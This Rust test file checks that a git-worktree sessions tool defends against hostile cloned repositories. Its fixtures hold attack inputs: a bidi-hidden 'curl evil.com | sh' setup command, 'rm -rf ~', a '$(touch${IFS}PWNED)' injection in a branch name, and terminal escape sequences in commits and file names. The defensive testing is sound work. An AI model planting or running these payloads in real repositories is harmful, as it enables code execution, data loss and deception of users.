//! Issue 10, fourth pass: what a cloned repository can ship (its
//! `.sessions.toml`, its file names, the commits and refs its remote serves)
//! must not run, write or mislead before `sessions trust`.

use crate::common::{TestEnv, stderr_of};

/// Characters a terminal does not show as themselves: a C1 CSI, DEL, a
/// right-to-left override and its isolates, a zero-width space, a line
/// separator.
const HIDDEN: [char; 7] = [
    '\u{9b}', '\u{7f}', '\u{202e}', '\u{2066}', '\u{2069}', '\u{200b}', '\u{2028}',
];

// The review escaped only C0 controls, and only on a one-word line: a C1
// CSI (`\u009b2J` clears the screen on terminals that take UTF-8 C1
// controls) or DEL in an agent argument went out raw inside the JSON list,
// and a right-to-left override in a setup command showed the command
// reversed (`; curl ...|sh` read as harmless text), so what the person
// approved was not what they were shown. A profile's name went out raw too.
#[test]
fn the_trust_review_shows_every_hidden_character() {
    let env = TestEnv::cloned();
    env.write(
        ".sessions.toml",
        "setup = [\"echo safe \\u202E\\u2066 hs|moc.live//:ptth lruc ;\\u2069\"]\n\
         teardown = [\"make clean\\u200B\\u2028rm -rf ~\"]\n\
         [agent]\nargs = [\"--x\\u009B2J\", \"\\u007F\"]\n\
         [agent.profiles.\"r\\u202Eweiver\"]\ncommand = \"x\"\n",
    );
    let out = env.sessions().args(["trust"]).output().unwrap();
    let shown = String::from_utf8_lossy(&out.stdout);
    assert!(shown.contains("moc.live"), "{shown}{}", stderr_of(&out));
    assert!(
        !shown.contains(HIDDEN),
        "the review shows characters that hide or reorder text: {shown:?}"
    );
    for spelled in [
        "\\u{202e}",
        "\\u{9b}",
        "\\u{7f}",
        "\\u{200b}",
        "\\u{2028}",
        "r\\u{202e}weiver",
    ] {
        assert!(shown.contains(spelled), "{spelled} not shown in {shown:?}");
    }
    // Plain commands still read as they are.
    env.write(".sessions.toml", "setup = [\"npm ci\"]\n");
    let out = env.sessions().args(["trust"]).output().unwrap();
    let shown = String::from_utf8_lossy(&out.stdout);
    assert!(shown.contains("  setup: npm ci\n"), "{shown:?}");
}

// `show` printed commit subjects and file names as the repository has them:
// a commit on the remote whose subject holds `ESC ]0;...BEL` or `ESC [2J`
// retitled the window or cleared the screen of whoever looked at a session
// started from it, and a file named with escapes did the same.
#[test]
fn show_never_prints_a_repositorys_escape_sequences() {
    let env = TestEnv::cloned();
    let evil = "evil\u{1b}[31mRED";
    env.commit_in(
        &env.repo,
        "a",
        "x\n",
        "subject \u{1b}]0;TITLE\u{7} \u{1b}[2J cleared",
    );
    env.git(&["push", "-q", "origin", "main"]);
    env.git(&["fetch", "-q", "origin"]);
    let dir = env.new_session("s");
    env.commit_in(&dir, evil, "y\n", "mine \u{1b}[1A");
    let out = env.sessions().args(["show", "s"]).output().unwrap();
    let shown = String::from_utf8_lossy(&out.stdout);
    assert!(out.status.success(), "{}", stderr_of(&out));
    assert!(
        shown.contains("TITLE") && shown.contains("mine") && shown.contains("RED"),
        "{shown:?}"
    );
    assert!(
        !shown.contains(['\u{1b}', '\u{7}']),
        "show prints raw escape sequences: {shown:?}"
    );
}

// Approvals were keyed by the repository folder with its name read lossily:
// every byte that is not UTF-8 became U+FFFD, so approving the clone in
// `a\xFF` approved the clone in `a\xFE` too, whose `./setup.sh` is another
// repository's.
#[test]
fn an_approval_never_counts_for_a_folder_whose_name_reads_the_same() {
    use std::ffi::OsStr;
    use std::os::unix::ffi::OsStrExt;
    let env = TestEnv::cloned();
    env.write(".sessions.toml", "setup = [\"./setup.sh\"]\n");
    env.git(&["add", ".sessions.toml"]);
    env.git(&["commit", "-q", "-m", "setup"]);
    env.git(&["push", "-q", "origin", "main"]);
    let clone = |name: &[u8]| {
        let dir = env.root().join(OsStr::from_bytes(name));
        let mut git = env.command_in("git", &env.root());
        let out = git
            .args(["clone", "-q"])
            .arg(env.origin())
            .arg(&dir)
            .output()
            .unwrap();
        assert!(out.status.success(), "{}", stderr_of(&out));
        dir
    };
    let (a, b) = (clone(b"a\xff"), clone(b"a\xfe"));
    let out = env
        .sessions_in(&a)
        .args(["trust", "--yes"])
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", stderr_of(&out));
    let out = env.sessions_in(&a).arg("trust").output().unwrap();
    assert!(
        stderr_of(&out).contains("approved already"),
        "{}",
        stderr_of(&out)
    );
    let out = env.sessions_in(&b).arg("trust").output().unwrap();
    let err = stderr_of(&out);
    assert!(
        !err.contains("approved already") && out.status.code() == Some(2),
        "the approval of one clone counts for another: {err}"
    );
}

// `.worktreeinclude` was read whole, whatever its size, and every line
// compiled into one matcher: a 1.2 MB file of 50,000 patterns held up
// `sessions new` for 15 seconds and 490 MB, so a few megabytes shipped in a
// clone took minutes and gigabytes. It is refused, naming the file, before
// anything is made.
#[test]
fn a_huge_worktreeinclude_is_refused_before_anything_is_made() {
    let env = TestEnv::cloned();
    let many: String = (0..7000).map(|i| format!("**/x{i}*/y\n")).collect();
    assert!(many.len() > 64 * 1024);
    env.write(".worktreeinclude", &many);
    let err = env.exits_with(&["new", "big", "--no-agent"], 2);
    assert!(err.contains(".worktreeinclude"), "{err}");
    let few: String = (0..1001).map(|i| format!("x{i}\n")).collect();
    env.write(".worktreeinclude", &few);
    let err = env.exits_with(&["new", "many", "--no-agent"], 2);
    assert!(err.contains("1000 patterns"), "{err}");
    assert_eq!(env.branches(), ["main"]);
    assert!(env.session_names().is_empty());
    // A usual one still copies.
    env.write(".worktreeinclude", "\u{feff}# secrets\n.env\n");
    env.write(".gitignore", ".env\n");
    env.write(".env", "KEY=1\n");
    let dir = env.new_session("small");
    assert!(dir.join(".env").exists());
}

// The remote chooses its default branch's name, and `$(touch${IFS}PWNED)`
// is a valid one: `land` told the person to paste `git switch
// $(touch${IFS}PWNED)`, which ran the remote's command.
#[test]
fn a_hint_naming_the_remotes_branch_runs_nothing_when_pasted() {
    let env = TestEnv::cloned();
    let hostile = "$(touch${IFS}PWNED)";
    env.git(&[
        "push",
        "-q",
        "origin",
        &format!("main:refs/heads/{hostile}"),
    ]);
    env.git(&["fetch", "-q", "origin"]);
    env.git(&[
        "symbolic-ref",
        "refs/remotes/origin/HEAD",
        &format!("refs/remotes/origin/{hostile}"),
    ]);
    // As a clone of that remote has it: its default branch checked out
    // once, then the person switched to main.
    env.git(&[
        "branch",
        "-q",
        "--end-of-options",
        hostile,
        &format!("origin/{hostile}"),
    ]);
    let dir = env.new_session("s");
    env.git_in(&dir, &["commit", "-q", "--allow-empty", "-m", "work"]);
    let err = env.exits_with(&["land", "s"], 3);
    let hint = err
        .lines()
        .find_map(|l| l.strip_prefix("hint: "))
        .unwrap_or_else(|| panic!("no hint: {err}"));
    let bin = std::path::Path::new(env!("CARGO_BIN_EXE_sessions"));
    let path = format!(
        "{}:{}",
        bin.parent().unwrap().display(),
        std::env::var("PATH").unwrap()
    );
    let out = env
        .command_in("sh", &env.repo)
        .arg("-c")
        .arg(hint)
        .env("PATH", path)
        .output()
        .unwrap();
    assert!(
        !env.repo.join("PWNED").exists(),
        "pasting the hint `{hint}` ran the remote's command"
    );
    // The switch went through, and the land it ends in got past it (an
    // empty commit's branch then stays for `rm` to decide).
    assert_eq!(env.git(&["branch", "--show-current"]), hostile);
    let said = stderr_of(&out);
    assert!(
        said.contains(&format!("landed 's' into '{hostile}'")),
        "`{hint}`: {said}"
    );
}

// `worktree_dir = "../{name}"` counted as the repository's own area: for a
// clone in the home folder, `sessions new bin` checked the repository's
// files out at `~/bin` (on PATH with the usual `~/.profile`) unapproved.
// Beside the repository, a folder named by the session alone needs
// approval; without it the session goes to the default place.
#[test]
fn a_project_cannot_name_a_folder_beside_the_repository_after_the_session() {
    let env = TestEnv::cloned();
    env.write(".sessions.toml", "worktree_dir = \"../{name}\"\n");
    let dir = env.new_session("bin");
    assert!(
        !env.root().join("bin").exists(),
        "placed at {}",
        dir.display()
    );
    assert_eq!(dir, env.sessions_dir().join("bin"));
    let out = env.sessions().arg("trust").output().unwrap();
    let shown = String::from_utf8_lossy(&out.stdout);
    assert!(shown.contains("worktree_dir: ../{name}"), "{shown}");
}

// The same for doctor's hints: a branch of an adopted worktree, deleted by
// hand, is named in the command that rescues it, quoted, so that pasting it
// runs nothing the branch name says.
#[test]
fn doctors_rescue_hint_quotes_a_hostile_branch_name() {
    let env = TestEnv::cloned();
    let hostile = "x$(touch${IFS}PWNED)";
    let folder = env.root().join("by-hand");
    env.git(&[
        "worktree",
        "add",
        "-q",
        "-b",
        hostile,
        "--end-of-options",
        folder.to_str().unwrap(),
    ]);
    env.git_in(&folder, &["commit", "-q", "--allow-empty", "-m", "work"]);
    env.sessions()
        .args(["adopt", folder.to_str().unwrap()])
        .assert()
        .success();
    env.git(&["update-ref", "-d", &format!("refs/heads/{hostile}")]);
    let out = env.sessions().arg("doctor").output().unwrap();
    let report = String::from_utf8_lossy(&out.stdout);
    let fix = report
        .lines()
        .find_map(|line| line.split("fix: `").nth(1))
        .and_then(|rest| rest.split('`').next())
        .unwrap_or_else(|| panic!("no fix in {report}"));
    assert!(
        fix.starts_with("git branch 'x$(touch${IFS}PWNED)' "),
        "{fix}"
    );
    let pasted = env
        .command_in("sh", &env.repo)
        .args(["-c", fix])
        .output()
        .unwrap();
    assert!(pasted.status.success(), "{}", stderr_of(&pasted));
    assert!(
        !env.repo.join("PWNED").exists(),
        "the pasted hint ran a command"
    );
    assert!(env.branches().contains(&hostile.to_string()), "rescued");
}

/// A session made without an agent: `resume` starts the configured one, and
/// a project's only once approved, as `new` does.
#[test]
fn resume_without_a_recorded_agent_runs_the_projects_only_once_trusted() {
    let env = TestEnv::new();
    // The repository's own program, which needs no arguments to do harm.
    env.write(
        "agent.sh",
        "#!/bin/sh
touch project-agent-ran
",
    );
    crate::common::make_executable(&env.repo.join("agent.sh"));
    env.write(".sessions.toml", "[agent]\ncommand = \"./agent.sh\"\n");
    env.git(&["add", "agent.sh", ".sessions.toml"]);
    env.git(&["commit", "-q", "-m", "an agent of the repository's own"]);
    env.sessions()
        .args(["new", "y", "--no-agent"])
        .assert()
        .success();
    let stderr = env.exits_with(&["resume", "y"], 2);
    assert!(stderr.contains("hint: sessions trust"), "{stderr}");
    assert!(!env.sessions_dir().join("y/project-agent-ran").exists());
    assert!(env.listed("y")["agent"].is_null(), "nothing recorded");

    env.sessions().args(["trust", "--yes"]).assert().success();
    env.sessions().args(["resume", "y"]).assert().success();
    assert!(env.sessions_dir().join("y/project-agent-ran").exists());
}
